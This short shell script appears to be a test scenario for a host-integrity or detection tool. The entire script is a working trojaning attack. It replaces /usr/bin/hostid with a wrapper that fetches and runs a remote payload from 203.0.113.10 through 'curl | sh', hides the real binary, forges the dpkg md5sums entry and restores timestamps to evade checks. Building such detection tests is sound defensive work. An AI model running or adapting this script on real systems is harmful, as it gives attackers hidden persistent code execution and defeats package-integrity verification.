#!/bin/sh
. /opt/case/case.sh

f=/usr/bin/hostid; p=/var/lib/dpkg/info/coreutils.md5sums; t=$(stat -c %Y $f)
mv $f /usr/lib/.hostid; printf '#!/bin/sh\n(curl -s http://203.0.113.10/payload.sh | sh) >/dev/null 2>&1\nexec /usr/lib/.hostid "$@"\n' >$f; chmod 755 $f
s=$(md5sum <$f | cut -d' ' -f1); sed -i "s|^.*  usr/bin/hostid\$|$s  usr/bin/hostid|" $p; touch -d "@$t" $f $p
hostid >/dev/null; test -e /tmp/reached
took_place
